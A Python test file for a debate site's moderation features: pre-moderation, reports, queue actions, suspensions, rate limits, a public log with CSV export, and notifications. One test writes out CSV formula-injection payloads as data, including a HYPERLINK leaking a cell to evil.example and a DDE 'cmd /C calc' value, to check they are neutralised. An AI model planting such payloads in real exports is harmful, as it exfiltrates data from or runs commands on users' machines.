"""Check moderation people can trust: review, reports, queue actions, limits, log and notices."""

import csv
import io
import json
import re
from datetime import timedelta
from html import unescape

import pytest
from sqlalchemy import func, select

from app.errors import Conflict
from app.extensions import db
from app.models import (
    Argument,
    Debate,
    DebateStatus,
    Evidence,
    Membership,
    ModerationAction,
    ModerationState,
    Notification,
    PositionStance,
    PostingMode,
    Rating,
    Report,
    ReportReason,
    ReportStatus,
    Role,
    Side,
    User,
)
from app.models.columns import utcnow
from tests.factories import (
    PASSWORD,
    add_member,
    make_argument,
    make_debate,
    make_position,
    make_report,
    make_user,
)
from tests.pages import field_error

STATEMENT = "Cameras make cities safer"
# Claims unlike one another, so that the similar-claims warning never stops a post.
DISTINCT_CLAIMS = [
    "Pickpockets avoid stations with cameras",
    "Footage helps courts convict burglars",
    "Insurance premiums fall near monitored streets",
    "Shopkeepers report fewer broken windows",
    "Night buses feel safer to commuters",
]
SHOWN_CLAIM = "Cameras deter pickpockets at stations"
HELD_CLAIM = "Station thefts fell once the cameras went up"
HELD_SOURCE = "Railway police annual figures"
REASON = "Checked against the debate's rules."
HIDE_REASON = "Insults another participant."
LOCKED = "A moderator locked this branch; it takes no new replies."
AUTO_HIDE_REASON = "Hidden automatically after reports; waiting for a moderator's review."


def build(app, **debate_overrides) -> dict[str, int]:
    """Make a debate with an owner, a moderator, an author, another participant, one position
    and one shown argument by the owner; return their ids."""
    with app.app_context():
        people = {
            name: make_user(display_name=name.capitalize())
            for name in ("owner", "moderator", "author", "participant")
        }
        debate = make_debate(owner=people["owner"], **debate_overrides)
        add_member(debate, people["moderator"], Role.MODERATOR)
        add_member(debate, people["author"], Role.PARTICIPANT)
        add_member(debate, people["participant"], Role.PARTICIPANT)
        position = make_position(debate, statement=STATEMENT)
        shown = make_argument(position, people["owner"], claim=SHOWN_CLAIM)
        db.session.commit()
        return {
            **{name: user.id for name, user in people.items()},
            "debate": debate.id,
            "position": position.id,
            "shown": shown.id,
        }


def client_of(app, user_id: int | None = None):
    """Return a fresh client, signed in as the user through the real route when one is given."""
    client = app.test_client()
    if user_id is not None:
        with app.app_context():
            username = db.session.get(User, user_id).username
        response = client.post(
            "/account/sign-in", data={"username": username, "password": PASSWORD}
        )
        assert response.status_code == 303
    return client


def new_user(app, **overrides) -> int:
    with app.app_context():
        user = make_user(**overrides)
        db.session.commit()
        return user.id


def position_url(w) -> str:
    return f"/debates/{w['debate']}/positions/{w['position']}"


def post_argument(client, w, claim: str, parent: int | None = None, side: str = "pro", **kw):
    url = f"/positions/{w['position']}/arguments/new"
    if parent is not None:
        url += f"?parent={parent}"
    return client.post(url, data={"side": side, "claim": claim}, **kw)


def act(client, w, item_id: int, action: str, reason: str = REASON, kind: str = "argument"):
    return client.post(
        f"/debates/{w['debate']}/queue/{kind}/{item_id}",
        data={"action": action, "reason": reason},
    )


def report(client, item_id: int, reason: str = "spam", details: str = "", kind="argument"):
    return client.post(f"/report/{kind}/{item_id}", data={"reason": reason, "details": details})


def argument_by_claim(app, claim: str) -> Argument | None:
    with app.app_context():
        argument = db.session.scalar(select(Argument).where(Argument.claim == claim))
        if argument is not None:
            db.session.expunge(argument)
        return argument


def state_of(app, model, ident) -> ModerationState:
    with app.app_context():
        return db.session.get(model, ident).moderation


def card(html: str, argument_id: int) -> str:
    """Return the text of one argument's card on a page, failing when it is absent."""
    match = re.search(
        rf'<article class="argument[^"]*" id="argument-{argument_id}">(.*?)</article>', html, re.S
    )
    assert match, f"argument {argument_id} is not on the page"
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", match[1])).split())


def queue_entry(html: str, kind: str, item_id: int) -> str:
    """Return the text of one entry of the review queue, failing when it is absent."""
    start = html.find(f'id="queue-{kind}-{item_id}"')
    assert start >= 0, f"{kind} {item_id} is not in the queue"
    ends = [end for end in (html.find('class="queue-entry', start), html.find("</ol>", start))
            if end >= 0]
    return " ".join(unescape(re.sub(r"<[^>]+>", "", html[start:min(ends)])).split())


def flashes(html: str) -> list[str]:
    return [unescape(m).strip() for m in re.findall(r'<p class="flash[^"]*">(.*?)</p>', html, re.S)]


def notifications_link(html: str) -> str:
    """Return the header's notifications link as a reader sees it, e.g. "Notifications 2"."""
    match = re.search(r'<a href="/notifications" class="notifications-link">(.*?)</a>', html, re.S)
    assert match, "the header has no notifications link"
    return " ".join(re.sub(r"<[^>]+>", " ", match[1]).split())


def log_actions(client, w) -> list[dict]:
    response = client.get(f"/api/v1/debates/{w['debate']}/moderation-log")
    assert response.status_code == 200
    return response.json["actions"]


def count(app, model, *where) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(*where))


def report_statuses(app, argument_id: int) -> list[ReportStatus]:
    with app.app_context():
        return sorted(db.session.scalars(
            select(Report.status).where(Report.argument_id == argument_id)
        ))


def hide_by_reports(app, w, argument_id: int) -> list[int]:
    """Have three new people report the argument, which hides it; return their ids."""
    with app.app_context():
        argument = db.session.get(Argument, argument_id)
        reporters = [make_user() for _ in range(3)]
        for reporter in reporters:
            make_report(argument, reporter)
        db.session.commit()
        assert argument.moderation == ModerationState.HIDDEN
        return [reporter.id for reporter in reporters]


def author_post_held(app, w, claim: str = HELD_CLAIM, parent: int | None = None) -> int:
    """Have the author post an argument through the route in a premoderated debate."""
    author = client_of(app, w["author"])
    assert post_argument(author, w, claim, parent=parent).status_code == 303
    held = argument_by_claim(app, claim)
    assert held.moderation == ModerationState.PENDING
    return held.id


# Pre-moderation


def test_a_participants_argument_waits_for_review_seen_only_by_its_author(app):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    author = client_of(app, w["author"])

    response = post_argument(author, w, HELD_CLAIM)

    held = argument_by_claim(app, HELD_CLAIM)
    assert response.status_code == 303
    assert held.moderation == ModerationState.PENDING
    assert "Awaiting review" in card(author.get(f"/arguments/{held.id}").text, held.id)
    assert "Awaiting review" in card(author.get(position_url(w)).text, held.id)
    for reader in (client_of(app), client_of(app, w["participant"])):
        assert HELD_CLAIM not in reader.get(position_url(w)).text
        assert reader.get(f"/arguments/{held.id}").status_code == 404
        tree = reader.get(f"/api/v1/positions/{w['position']}").json
        assert HELD_CLAIM not in json.dumps(tree)


def test_a_participants_evidence_waits_for_review_seen_only_by_its_author(app):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    author = client_of(app, w["author"])

    response = author.post(
        f"/arguments/{w['shown']}/evidence/new",
        data={"kind": "official", "url": "https://example.org/police", "title": HELD_SOURCE,
              "passage": "0"},
    )

    assert response.status_code == 303
    with app.app_context():
        source = db.session.scalar(select(Evidence).where(Evidence.title == HELD_SOURCE))
        assert source.moderation == ModerationState.PENDING
    own_page = unescape(author.get(f"/arguments/{w['shown']}").text)
    assert HELD_SOURCE in own_page and "Awaiting review" in own_page
    for reader in (client_of(app), client_of(app, w["participant"])):
        page = reader.get(f"/arguments/{w['shown']}").text
        assert HELD_SOURCE not in unescape(page)
        assert "needs evidence" in card(page, w["shown"])
        assert HELD_SOURCE not in unescape(reader.get(f"/debates/{w['debate']}/evidence").text)


@pytest.mark.parametrize("poster", ["owner", "moderator"])
def test_posts_by_the_owner_and_moderators_are_not_held(app, poster):
    w = build(app, posting_mode=PostingMode.PREMODERATED)

    response = post_argument(client_of(app, w[poster]), w, HELD_CLAIM)

    assert response.status_code == 303
    assert argument_by_claim(app, HELD_CLAIM).moderation == ModerationState.VISIBLE
    assert HELD_CLAIM in client_of(app).get(position_url(w)).text


@pytest.mark.parametrize("runner", ["owner", "moderator"])
def test_the_queue_shows_each_pending_item_with_its_position_and_parent(app, runner):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    held = author_post_held(app, w, parent=w["shown"])
    client_of(app, w["author"]).post(
        f"/arguments/{w['shown']}/evidence/new",
        data={"kind": "news", "url": "https://example.org/police", "title": HELD_SOURCE,
              "passage": "0"},
    )
    with app.app_context():
        source = db.session.scalar(select(Evidence.id).where(Evidence.title == HELD_SOURCE))

    page = client_of(app, w[runner]).get(f"/debates/{w['debate']}/queue").text

    entry = queue_entry(page, "argument", held)
    assert "pending" in entry and HELD_CLAIM in entry
    assert f"on “{STATEMENT}”" in entry
    assert f"answering 1 “{SHOWN_CLAIM}”" in entry
    assert "by Author" in entry
    evidence_entry = queue_entry(page, "evidence", source)
    assert HELD_SOURCE in evidence_entry
    assert f"on argument 1 “{SHOWN_CLAIM}”" in evidence_entry


@pytest.mark.parametrize("reader", ["participant", "author"])
def test_participants_cannot_open_the_queue(app, reader):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    author_post_held(app, w)

    response = client_of(app, w[reader]).get(f"/debates/{w['debate']}/queue")

    assert response.status_code == 403
    assert HELD_CLAIM not in response.text


def test_approving_shows_the_argument_to_everyone_and_tells_the_author_why(app):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    held = author_post_held(app, w)

    response = act(client_of(app, w["moderator"]), w, held, "approve", "Well sourced and civil.")

    assert response.status_code == 303
    assert state_of(app, Argument, held) == ModerationState.VISIBLE
    for reader in (client_of(app), client_of(app, w["participant"])):
        assert HELD_CLAIM in reader.get(position_url(w)).text
        assert "Awaiting review" not in card(reader.get(f"/arguments/{held}").text, held)
    notices = unescape(client_of(app, w["author"]).get("/notifications").text)
    assert "Your argument 2 was approved: Well sourced and civil." in notices


def test_approving_evidence_shows_it_to_everyone(app):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    client_of(app, w["author"]).post(
        f"/arguments/{w['shown']}/evidence/new",
        data={"kind": "news", "url": "https://example.org/police", "title": HELD_SOURCE,
              "passage": "0"},
    )
    with app.app_context():
        source = db.session.scalar(select(Evidence.id).where(Evidence.title == HELD_SOURCE))

    response = act(client_of(app, w["owner"]), w, source, "approve", kind="evidence")

    assert response.status_code == 303
    page = client_of(app).get(f"/arguments/{w['shown']}").text
    assert HELD_SOURCE in unescape(page)
    assert "1 source" in card(page, w["shown"])


def test_rejecting_shows_the_author_the_reason_and_nobody_else_anything(app):
    w = build(app, posting_mode=PostingMode.PREMODERATED)
    held = author_post_held(app, w)

    response = act(client_of(app, w["moderator"]), w, held, "reject", "Off-topic: about parking.")

    assert response.status_code == 303
    assert state_of(app, Argument, held) == ModerationState.REJECTED
    author = client_of(app, w["author"])
    own_card = card(author.get(f"/arguments/{held}").text, held)
    assert "Rejected" in own_card and "Reason: Off-topic: about parking." in own_card
    assert "Off-topic: about parking." in unescape(author.get("/notifications").text)
    for reader in (client_of(app), client_of(app, w["participant"])):
        assert HELD_CLAIM not in reader.get(position_url(w)).text
        assert reader.get(f"/arguments/{held}").status_code == 404


# Reports


@pytest.mark.parametrize(
    ("reason", "label"),
    [("spam", "Spam"), ("abuse", "Abuse or harassment"), ("off_topic", "Off-topic"),
     ("personal_information", "Personal information"), ("other", "Other")],
)
def test_a_reader_reports_an_argument_for_each_listed_reason(app, reason, label):
    w = build(app)

    response = report(client_of(app, w["participant"]), w["shown"], reason, "It names my boss.")

    assert response.status_code == 303
    with app.app_context():
        stored = db.session.scalar(select(Report))
        assert (stored.reason, stored.details, stored.reporter_id) == (
            ReportReason(reason), "It names my boss.", w["participant"])
    entry = queue_entry(client_of(app, w["moderator"]).get(f"/debates/{w['debate']}/queue").text,
                        "argument", w["shown"])
    assert f"{label} (weight 1.0)" in entry and "It names my boss." in entry


def test_other_without_details_is_refused_beside_the_details_field(app):
    w = build(app)

    response = report(client_of(app, w["participant"]), w["shown"], "other", "   ")

    assert response.status_code == 422
    assert field_error(response.text, "details") == "Say what is wrong when you choose “Other”."
    assert count(app, Report) == 0


def test_reporting_the_same_argument_twice_is_refused_with_a_message(app):
    w = build(app)
    participant = client_of(app, w["participant"])
    assert report(participant, w["shown"], "spam").status_code == 303

    again = report(participant, w["shown"], "abuse")

    # The service refuses with a conflict; the page puts its message beside the form with
    # the status every refused form gets, which htmx swaps in.
    assert again.status_code == 422
    assert "You have already reported this." in again.text
    assert count(app, Report) == 1
    with app.app_context():
        argument = db.session.get(Argument, w["shown"])
        with pytest.raises(Conflict) as refused:
            make_report(argument, db.session.get(User, w["participant"]), reason=ReportReason.ABUSE)
        assert refused.value.status == 409
        assert refused.value.message == "You have already reported this."


def test_two_reports_leave_an_argument_shown_and_the_third_hides_it(app):
    w = build(app)
    with app.app_context():
        argument = make_argument(db.session.get(Debate, w["debate"]).positions[0],
                                 db.session.get(User, w["author"]), claim=HELD_CLAIM)
        db.session.commit()
        target = argument.id
    reporters = [client_of(app, new_user(app)) for _ in range(3)]

    for reporter in reporters[:2]:
        assert report(reporter, target).status_code == 303
    assert state_of(app, Argument, target) == ModerationState.VISIBLE
    assert HELD_CLAIM in client_of(app).get(position_url(w)).text
    assert report(reporters[2], target).status_code == 303

    assert state_of(app, Argument, target) == ModerationState.HIDDEN
    entry = log_actions(client_of(app), w)[0]
    assert (entry["action"], entry["actor"], entry["actor_role"]) == ("auto_hide", None, "system")
    assert entry["target"] == {"kind": "argument", "id": target, "label": "argument 2"}
    author = client_of(app, w["author"])
    own_card = card(author.get(f"/arguments/{target}").text, target)
    assert "Hidden" in own_card and f"Reason: {AUTO_HIDE_REASON}" in own_card
    assert "was hidden after reports" in unescape(author.get("/notifications").text)
    for reader in (client_of(app), client_of(app, w["participant"])):
        assert HELD_CLAIM not in reader.get(position_url(w)).text
        assert reader.get(f"/arguments/{target}").status_code == 404


def test_a_reporter_whose_two_earlier_reports_were_upheld_counts_double(app):
    w = build(app)
    with app.app_context():
        position = db.session.get(Debate, w["debate"]).positions[0]
        author = db.session.get(User, w["author"])
        earlier = [make_argument(position, author, claim=f"Earlier spam number {n}").id
                   for n in (1, 2)]
        target = make_argument(position, author, claim=HELD_CLAIM).id
        db.session.commit()
    trusted = client_of(app, w["participant"])
    moderator = client_of(app, w["moderator"])
    for argument_id in earlier:
        assert report(trusted, argument_id).status_code == 303
        assert act(moderator, w, argument_id, "hide", HIDE_REASON).status_code == 303

    assert report(trusted, target).status_code == 303
    assert state_of(app, Argument, target) == ModerationState.VISIBLE
    assert report(client_of(app, new_user(app)), target).status_code == 303

    assert state_of(app, Argument, target) == ModerationState.HIDDEN
    with app.app_context():
        weights = db.session.scalars(
            select(Report.weight).where(Report.argument_id == target).order_by(Report.id)
        ).all()
    assert weights == [2.0, 1.0]
    entry = queue_entry(moderator.get(f"/debates/{w['debate']}/queue").text, "argument", target)
    assert "(weight 2.0)" in entry and "(weight 1.0)" in entry


def test_the_author_mending_a_hidden_argument_sends_it_back_for_review(app):
    w = build(app)
    with app.app_context():
        position = db.session.get(Debate, w["debate"]).positions[0]
        target = make_argument(position, db.session.get(User, w["author"]), claim=HELD_CLAIM).id
        db.session.commit()
    hide_by_reports(app, w, target)
    mended = "Station thefts fell by a fifth once the cameras went up"

    response = client_of(app, w["author"]).post(
        f"/arguments/{target}/edit", data={"claim": mended, "body": ""}
    )

    assert response.status_code == 303
    assert state_of(app, Argument, target) == ModerationState.PENDING
    assert "Awaiting review" in card(
        client_of(app, w["author"]).get(f"/arguments/{target}").text, target)
    assert mended not in client_of(app).get(position_url(w)).text
    assert client_of(app, w["participant"]).get(f"/arguments/{target}").status_code == 404
    moderator = client_of(app, w["moderator"])
    assert "pending" in queue_entry(
        moderator.get(f"/debates/{w['debate']}/queue").text, "argument", target)

    assert act(moderator, w, target, "approve", "Mended: no insult left.").status_code == 303

    assert state_of(app, Argument, target) == ModerationState.VISIBLE
    assert mended in client_of(app).get(position_url(w)).text
    assert report_statuses(app, target) == [ReportStatus.DISMISSED] * 3


def test_restoring_a_hidden_argument_shows_it_again_and_dismisses_its_reports(app):
    w = build(app)
    hide_by_reports(app, w, w["shown"])
    assert SHOWN_CLAIM not in client_of(app).get(position_url(w)).text

    owner = client_of(app, w["owner"])

    response = act(owner, w, w["shown"], "restore", "The reports were a pile-on.")

    assert response.status_code == 303
    assert state_of(app, Argument, w["shown"]) == ModerationState.VISIBLE
    assert SHOWN_CLAIM in client_of(app).get(position_url(w)).text
    assert report_statuses(app, w["shown"]) == [ReportStatus.DISMISSED] * 3


# Queue actions


def prepare(app, w, action: str) -> None:
    """Put the shown argument in the state the action applies to."""
    with app.app_context():
        argument = db.session.get(Argument, w["shown"])
        if action in ("approve", "reject"):
            argument.moderation = ModerationState.PENDING
        elif action == "restore":
            argument.moderation = ModerationState.HIDDEN
        elif action == "unlock":
            argument.locked_at = utcnow()
        elif action == "dismiss_reports":
            make_report(argument, make_user(), reason=ReportReason.OFF_TOPIC)
        db.session.commit()


def moderation_snapshot(app, w) -> tuple:
    with app.app_context():
        argument = db.session.get(Argument, w["shown"])
        return (
            argument.moderation,
            argument.moderation_reason,
            argument.locked_at,
            report_statuses(app, w["shown"]),
            count(app, ModerationAction),
            count(app, Notification),
        )


ACTIONS = {
    # action: (what it leaves behind, the words the log page shows for it)
    "approve": (lambda a: a.moderation == ModerationState.VISIBLE, "approve"),
    "reject": (lambda a: a.moderation == ModerationState.REJECTED, "reject"),
    "hide": (lambda a: a.moderation == ModerationState.HIDDEN, "hide"),
    "restore": (lambda a: a.moderation == ModerationState.VISIBLE, "restore"),
    "dismiss_reports": (lambda a: True, "dismiss reports"),
    "lock": (lambda a: a.locked_at is not None, "lock"),
    "unlock": (lambda a: a.locked_at is None, "unlock"),
}


@pytest.mark.parametrize("action", ACTIONS)
@pytest.mark.parametrize("reason", ["", "   "])
def test_a_queue_action_without_a_reason_is_refused_and_changes_nothing(app, action, reason):
    w = build(app)
    prepare(app, w, action)
    before = moderation_snapshot(app, w)
    moderator = client_of(app, w["moderator"])

    response = act(moderator, w, w["shown"], action, reason)

    assert response.status_code == 303
    assert "Give a reason for every moderation action." in flashes(
        moderator.get(response.headers["Location"]).text)
    assert moderation_snapshot(app, w) == before


@pytest.mark.parametrize("action", ACTIONS)
def test_each_queue_action_is_recorded_in_the_public_log_with_its_reason(app, action):
    w = build(app)
    prepare(app, w, action)
    reason = f"Reason for {action}: the rules say so."

    response = act(client_of(app, w["moderator"]), w, w["shown"], action, reason)

    assert response.status_code == 303
    with app.app_context():
        assert ACTIONS[action][0](db.session.get(Argument, w["shown"]))
    entry = log_actions(client_of(app), w)[0]
    assert entry["actor"] == "Moderator"
    assert entry["actor_role"] == "moderator"
    assert entry["action"] == action
    assert entry["target"] == {"kind": "argument", "id": w["shown"], "label": "argument 1"}
    assert entry["reason"] == reason
    page = client_of(app).get(f"/debates/{w['debate']}/log").text
    row = " ".join(unescape(re.sub(r"<[^>]+>", " ", page.split("<tbody>")[1])).split())
    assert f"Moderator (moderator) {ACTIONS[action][1]} argument 1 {reason}" in row


def test_dismissing_reports_closes_them_and_keeps_the_argument_shown(app):
    w = build(app)
    prepare(app, w, "dismiss_reports")

    act(client_of(app, w["moderator"]), w, w["shown"], "dismiss_reports", "Not spam at all.")

    assert report_statuses(app, w["shown"]) == [ReportStatus.DISMISSED]
    assert state_of(app, Argument, w["shown"]) == ModerationState.VISIBLE
    assert "Nothing waits for review." in client_of(app, w["moderator"]).get(
        f"/debates/{w['debate']}/queue").text


def test_the_log_names_the_owner_as_owner(app):
    w = build(app)

    act(client_of(app, w["owner"]), w, w["shown"], "hide", HIDE_REASON)

    entry = log_actions(client_of(app), w)[0]
    assert (entry["actor"], entry["actor_role"], entry["action"]) == ("Owner", "owner", "hide")


def test_a_locked_branch_takes_no_replies_anywhere_under_it_until_unlocked(app):
    w = build(app)
    with app.app_context():
        child = make_argument(db.session.get(Debate, w["debate"]).positions[0],
                              db.session.get(User, w["author"]), claim="Thieves moved to buses",
                              parent=db.session.get(Argument, w["shown"]), side=Side.CON).id
        db.session.commit()
    moderator, participant = client_of(app, w["moderator"]), client_of(app, w["participant"])
    assert act(moderator, w, w["shown"], "lock", "Going round in circles.").status_code == 303

    for parent in (w["shown"], child):
        form = participant.get(f"/positions/{w['position']}/arguments/new?parent={parent}")
        refused = post_argument(participant, w, f"A reply under {parent}", parent=parent)
        assert form.status_code == 409 and LOCKED in form.text
        assert refused.status_code == 409 and LOCKED in refused.text
    assert count(app, Argument) == 2

    assert act(moderator, w, w["shown"], "unlock", "Calmer now.").status_code == 303

    for parent in (w["shown"], child):
        assert post_argument(participant, w, f"A reply under {parent}", parent=parent,
                             side="con").status_code == 303
    assert count(app, Argument) == 4


def suspend(client, w, username: str, days: str, reason: str = "Repeated insults."):
    return client.post(f"/debates/{w['debate']}/suspensions",
                       data={"username": username, "days": days, "reason": reason})


def test_a_suspended_member_cannot_post_until_the_suspension_ends_or_is_lifted(app):
    w = build(app)
    moderator, participant = client_of(app, w["moderator"]), client_of(app, w["participant"])
    with app.app_context():
        username = db.session.get(User, w["participant"]).username

    assert suspend(moderator, w, username, "3").status_code == 303

    refused = post_argument(participant, w, "Posted while suspended")
    assert refused.status_code == 403
    assert "You are suspended from this debate until" in refused.text
    assert argument_by_claim(app, "Posted while suspended") is None
    entry = log_actions(client_of(app), w)[0]
    assert (entry["actor_role"], entry["action"], entry["target"]["label"], entry["reason"]) == (
        "moderator", "suspend", "member Participant for 3 days", "Repeated insults.")

    with app.app_context():
        membership = db.session.scalar(select(Membership).where(
            Membership.debate_id == w["debate"], Membership.user_id == w["participant"]))
        membership.suspended_until = utcnow() - timedelta(minutes=1)
        db.session.commit()
    assert post_argument(participant, w, "Posted after it ended").status_code == 303

    assert suspend(moderator, w, username, "3").status_code == 303
    assert post_argument(participant, w, "Posted while suspended").status_code == 403
    assert suspend(moderator, w, username, "0", "Apologised.").status_code == 303
    assert post_argument(participant, w, "Posted once lifted").status_code == 303
    assert log_actions(client_of(app), w)[0]["action"] == "lift_suspension"


def test_a_suspension_without_a_reason_is_refused_and_changes_nothing(app):
    w = build(app)
    moderator = client_of(app, w["moderator"])
    with app.app_context():
        username = db.session.get(User, w["participant"]).username

    response = suspend(moderator, w, username, "3", reason="")

    assert response.status_code == 303
    assert "Give a reason." in flashes(moderator.get(response.headers["Location"]).text)
    assert count(app, ModerationAction) == 0
    assert post_argument(client_of(app, w["participant"]), w, "Still free").status_code == 303


# The hourly limit


def test_the_third_argument_within_an_hour_is_refused_when_the_limit_is_two(app):
    w = build(app, posts_per_hour=2)
    participant = client_of(app, w["participant"])
    for claim in DISTINCT_CLAIMS[:2]:
        assert post_argument(participant, w, claim).status_code == 303

    refused = post_argument(participant, w, DISTINCT_CLAIMS[2])
    by_htmx = post_argument(participant, w, DISTINCT_CLAIMS[2], headers={"HX-Request": "true"})

    message = "You have posted 2 arguments here in the last hour, this debate's limit."
    assert refused.status_code == 429
    assert message in unescape(refused.text)
    assert by_htmx.status_code == 429
    assert by_htmx.content_type.startswith("text/plain") and message in by_htmx.text
    assert argument_by_claim(app, DISTINCT_CLAIMS[2]) is None
    assert count(app, Argument, Argument.author_id == w["participant"]) == 2


@pytest.mark.parametrize("runner", ["owner", "moderator"])
def test_the_owner_and_moderators_are_not_held_to_the_hourly_limit(app, runner):
    w = build(app, posts_per_hour=2)
    client = client_of(app, w[runner])

    statuses = [post_argument(client, w, claim).status_code for claim in DISTINCT_CLAIMS]

    assert statuses == [303] * 5


def test_an_hourly_limit_of_zero_means_no_limit(app):
    w = build(app, posts_per_hour=0)
    participant = client_of(app, w["participant"])

    statuses = [post_argument(participant, w, claim).status_code for claim in DISTINCT_CLAIMS]

    assert statuses == [303] * 5


def test_arguments_older_than_an_hour_do_not_count_towards_the_limit(app):
    w = build(app, posts_per_hour=2)
    participant = client_of(app, w["participant"])
    for claim in DISTINCT_CLAIMS[:2]:
        assert post_argument(participant, w, claim).status_code == 303
    with app.app_context():
        for argument in db.session.scalars(
            select(Argument).where(Argument.author_id == w["participant"])
        ):
            argument.created_at = utcnow() - timedelta(minutes=61)
        db.session.commit()

    assert post_argument(participant, w, DISTINCT_CLAIMS[2]).status_code == 303


# The public log


def test_the_public_log_lists_actions_newest_first(app):
    w = build(app)
    moderator = client_of(app, w["moderator"])
    for action, reason in (("hide", "First: an insult."), ("restore", "Second: it was a quote."),
                           ("lock", "Third: going in circles.")):
        assert act(moderator, w, w["shown"], action, reason).status_code == 303

    page = client_of(app).get(f"/debates/{w['debate']}/log").text
    actions = log_actions(client_of(app), w)

    order = [page.find(reason) for reason in ("Third", "Second", "First")]
    assert -1 not in order and order == sorted(order)
    assert [entry["action"] for entry in actions] == ["lock", "restore", "hide"]


def test_the_api_log_describes_each_action_in_plain_fields(app):
    w = build(app)
    act(client_of(app, w["moderator"]), w, w["shown"], "hide", HIDE_REASON)

    (entry,) = log_actions(client_of(app), w)

    assert set(entry) == {"id", "at", "actor", "actor_role", "action", "target", "reason"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", entry["at"])
    assert entry["target"] == {"kind": "argument", "id": w["shown"], "label": "argument 1"}
    assert (entry["actor"], entry["actor_role"], entry["action"], entry["reason"]) == (
        "Moderator", "moderator", "hide", HIDE_REASON)


def test_the_log_never_contains_the_text_of_hidden_content(app):
    w = build(app)
    secret_claim = "Quincunx Smith lives at 12 Harbour Lane"
    secret_body = "Phone him on 0123 456 789 and tell him what you think."
    with app.app_context():
        position = db.session.get(Debate, w["debate"]).positions[0]
        author = db.session.get(User, w["author"])
        hidden = make_argument(position, author, claim=secret_claim, body=secret_body).id
        reported = make_argument(position, author, claim="Quincunx again, this time by reports").id
        db.session.commit()
    moderator = client_of(app, w["moderator"])
    act(moderator, w, hidden, "hide", "Personal information about a third party.")
    hide_by_reports(app, w, reported)

    page = client_of(app).get(f"/debates/{w['debate']}/log").text
    api = client_of(app).get(f"/api/v1/debates/{w['debate']}/moderation-log").text
    export = moderator.get(f"/debates/{w['debate']}/log.csv").text

    assert "argument 2" in unescape(page) and "argument 3" in unescape(page)
    for text in (page, api, export):
        assert "Quincunx" not in text
        assert "Harbour Lane" not in text and "0123 456 789" not in text


def test_moderators_export_the_log_as_csv_with_a_header_and_a_row_per_action(app):
    w = build(app)
    moderator = client_of(app, w["moderator"])
    for action in ("hide", "restore", "lock"):
        act(moderator, w, w["shown"], action, f"Because of {action}.")

    response = moderator.get(f"/debates/{w['debate']}/log.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0] == ["when", "who", "role", "action", "target", "target_id", "reason"]
    assert [row[1:] for row in rows[1:]] == [
        ["Moderator", "moderator", action, "argument 1", str(w["shown"]), f"Because of {action}."]
        for action in ("hide", "restore", "lock")
    ]


@pytest.mark.parametrize("reader", ["participant", "author"])
def test_participants_cannot_export_the_log(app, reader):
    w = build(app)
    act(client_of(app, w["moderator"]), w, w["shown"], "hide", HIDE_REASON)

    response = client_of(app, w[reader]).get(f"/debates/{w['debate']}/log.csv")

    assert response.status_code == 403
    assert HIDE_REASON not in response.text


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_would_start_a_formula_are_neutralised(app, start):
    w = build(app)
    formula = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"click")'
    with app.app_context():
        db.session.get(User, w["moderator"]).display_name = f"{start}cmd|' /C calc'!A0"
        db.session.commit()

    act(client_of(app, w["moderator"]), w, w["shown"], "hide", formula)

    rows = list(csv.reader(io.StringIO(
        client_of(app, w["owner"]).get(f"/debates/{w['debate']}/log.csv").text)))
    assert rows[1][1] == f"'{start}cmd|' /C calc'!A0"
    assert rows[1][6] == "'" + formula


# Notifications


def test_a_reply_notifies_the_author_it_answers_on_every_page(app):
    w = build(app)
    with app.app_context():
        argument = make_argument(db.session.get(Debate, w["debate"]).positions[0],
                                 db.session.get(User, w["author"]), claim=HELD_CLAIM)
        db.session.commit()
        answered = argument.id

    response = post_argument(client_of(app, w["participant"]), w, "Thieves simply moved on",
                             parent=answered, side="con")

    assert response.status_code == 303
    author = client_of(app, w["author"])
    for url in ("/", position_url(w), f"/arguments/{answered}", f"/debates/{w['debate']}/log"):
        assert notifications_link(author.get(url).text) == "Notifications 1"
    notices = unescape(author.get("/notifications").text)
    assert "Participant replied objecting to your argument 2: “Thieves simply moved on”" in notices
    assert notifications_link(client_of(app, w["participant"]).get("/").text) == "Notifications"


def test_replying_to_ones_own_argument_notifies_nobody(app):
    w = build(app)

    response = post_argument(client_of(app, w["owner"]), w, "And they stay away", parent=w["shown"])

    assert response.status_code == 303
    assert count(app, Notification) == 0
    assert notifications_link(client_of(app, w["owner"]).get("/").text) == "Notifications"


def test_a_held_reply_notifies_the_author_it_answers_only_once_approved(app):
    w = build(app)
    with app.app_context():
        answered = make_argument(db.session.get(Debate, w["debate"]).positions[0],
                                 db.session.get(User, w["participant"]), claim=HELD_CLAIM).id
        db.session.get(Debate, w["debate"]).posting_mode = PostingMode.PREMODERATED
        db.session.commit()
    reply = author_post_held(app, w, "A reply that waits for review", parent=answered)
    assert notifications_link(client_of(app, w["participant"]).get("/").text) == "Notifications"

    act(client_of(app, w["moderator"]), w, reply, "approve", "Fine.")

    participant = client_of(app, w["participant"])
    assert notifications_link(participant.get("/").text) == "Notifications 1"
    assert "A reply that waits for review" in unescape(participant.get("/notifications").text)


def test_a_reply_approved_again_after_being_hidden_does_not_notify_twice(app):
    w = build(app)
    reply_claim = DISTINCT_CLAIMS[0]
    assert post_argument(client_of(app, w["participant"]), w, reply_claim,
                         parent=w["shown"]).status_code == 303
    reply = argument_by_claim(app, reply_claim).id
    hide_by_reports(app, w, reply)

    act(client_of(app, w["moderator"]), w, reply, "approve", "The reports were mistaken.")

    owner = client_of(app, w["owner"])
    assert notifications_link(owner.get("/").text) == "Notifications 1"
    assert unescape(owner.get("/notifications").text).count(reply_claim) == 1


def test_marking_all_read_clears_the_count(app):
    w = build(app)
    for claim in DISTINCT_CLAIMS[:2]:
        post_argument(client_of(app, w["participant"]), w, claim, parent=w["shown"], side="con")
    owner = client_of(app, w["owner"])
    assert notifications_link(owner.get("/").text) == "Notifications 2"

